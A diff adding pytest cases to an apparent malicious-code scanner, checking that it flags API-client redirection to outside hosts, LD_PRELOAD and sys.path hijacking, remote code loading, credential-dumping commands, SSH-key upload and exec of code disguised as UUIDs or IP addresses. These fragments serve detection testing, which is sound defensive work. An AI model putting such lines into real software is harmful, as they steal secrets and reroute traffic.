@@ -180,3 +180,120 @@ def test_a_first_program_for_a_machine_that_nobody_reads(tmp_path):
     assert (
         found(tmp_path, CLIENT, files={"gate/fast.wasm": b"\0asm\1\0\0\0" + bytes(99)})["decoded-code"] is Severity.HIGH
     )
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "os.environ['OPENAI_BASE_URL'] = 'https://api.elsewhere.invalid/v1'",
+        "os.environ.setdefault('HTTPS_PROXY', 'http://proxy.elsewhere.invalid:3128')",
+        "os.environ.update({'ANTHROPIC_BASE_URL': 'https://api.elsewhere.invalid'})",
+        "os.putenv('AZURE_API_BASE', 'https://api.elsewhere.invalid')",
+        "os.environ['SSL_CERT_FILE'] = os.path.join(os.path.dirname(__file__), 'ca.pem')",
+        "openai.base_url = 'https://api.elsewhere.invalid/v1'",
+    ],
+)
+def test_clients_of_others_are_sent_elsewhere(tmp_path, line):
+    assert found(tmp_path, f"{CLIENT}import os\nimport openai\n{line}\n")["patching"] is Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "os.environ['OPENAI_BASE_URL'] = url",
+        "os.environ.setdefault('HTTP_PROXY', 'http://localhost:3128')",
+        "os.environ['SSL_CERT_FILE'] = certifi.where()",
+        "os.environ['GATE_MODE'] = 'https://api.elsewhere.invalid'",
+    ],
+)
+def test_what_the_user_chose_is_passed_on(tmp_path, line):
+    source = f"{CLIENT}import os\nimport certifi\ndef prepare(url):\n    {line}\n"
+    assert "patching" not in found(tmp_path, source)
+
+
+def test_a_loader_variable_for_a_child(tmp_path):
+    before = CLIENT + "import os, subprocess\ndef run(*a):\n    return subprocess.run(a)\n"
+    source = before.replace("run(a)", "run(a, env={**os.environ, 'LD_PRELOAD': '/opt/fast.so'})")
+    assert found(tmp_path, source, before=before)["patching"] is Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import sys, os\nsys.path.insert(0, os.path.expanduser('~/.local/share/.cache-x'))\n",
+        "import sys\nsys.path.append('/tmp/more')\n",
+        "import gate\ngate.__path__.insert(0, '/tmp/more')\n",
+    ],
+)
+def test_modules_come_from_where_nobody_looks(tmp_path, source):
+    assert found(tmp_path, CLIENT + source)["evasion"] is Severity.CRITICAL
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "torch.hub.load('somebody/models', 'm')",
+        "transformers.AutoModel.from_pretrained('somebody/m', trust_remote_code=True)",
+        "pandas.read_pickle('https://files.elsewhere.invalid/t.pkl')",
+        "logging.config.listen(9030)",
+        "subprocess.run([sys.executable, '-m', 'pip', 'install', 'more'])",
+        "subprocess.run(['npm', 'install'])",
+        "eval(flask.request.args['q'])",
+    ],
+)
+def test_code_that_comes_from_elsewhere(tmp_path, line):
+    imports = "import flask, logging.config, pandas, subprocess, sys, torch, transformers\n"
+    assert found(tmp_path, f"{CLIENT}{imports}def go():\n    {line}\n")["download-and-run"] is Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "transformers.AutoModel.from_pretrained(name, trust_remote_code=trusted)",
+        "pandas.read_pickle('table.pkl')",
+        "subprocess.run([sys.executable, '-m', 'pip', 'list'])",
+    ],
+)
+def test_code_that_is_there_already(tmp_path, line):
+    imports = "import pandas, subprocess, sys, transformers\n"
+    assert "download-and-run" not in found(tmp_path, f"{CLIENT}{imports}def go(name, trusted):\n    {line}\n")
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["gh auth token", "gcloud auth print-access-token", "kubectl get secrets -A", "security dump-keychain", "pbpaste"],
+)
+def test_programs_are_asked_for_secrets(tmp_path, command):
+    source = f"{CLIENT}import subprocess\ndef ask():\n    return subprocess.check_output({command.split()!r})\n"
+    assert "credentials" in found(tmp_path, source)
+
+
+def test_all_secrets_of_a_cluster(tmp_path):
+    source = CLIENT + "def all(client):\n    return client.CoreV1Api().list_secret_for_all_namespaces()\n"
+    assert found(tmp_path, source)["credentials"] is Severity.HIGH
+
+
+def test_a_file_of_keys_is_handed_to_what_uploads(tmp_path):
+    source = CLIENT + "def keep(bucket):\n    bucket.upload_file('/home/me/.ssh/id_ed25519', 'k')\n"
+    assert found(tmp_path, source)["credentials"] is Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    "packed",
+    [
+        "b''.join(uuid.UUID(each).bytes for each in ['696d706f-7274-206f-733b-6f732e737973'])",
+        "b''.join(ipaddress.ip_address(each).packed for each in ['696d:706f:7274:206f:733b:6f73:2e73:7973'])",
+    ],
+)
+def test_code_that_is_written_as_something_else(tmp_path, packed):
+    source = f"{CLIENT}import ipaddress, uuid\ndef go():\n    exec({packed})\n"
+    assert found(tmp_path, source)["decoded-code"] is Severity.HIGH
+
+
+def test_examples_in_documentation_run_at_import(tmp_path):
+    assert found(tmp_path, CLIENT + "import doctest\ndoctest.testmod()\n")["import-time"] is Severity.HIGH
+
+
+def test_examples_in_documentation_run_by_hand_are_a_habit(tmp_path):
+    source = CLIENT + "if __name__ == '__main__':\n    import doctest\n    doctest.testmod()\n"
+    assert found(tmp_path, source) == {}
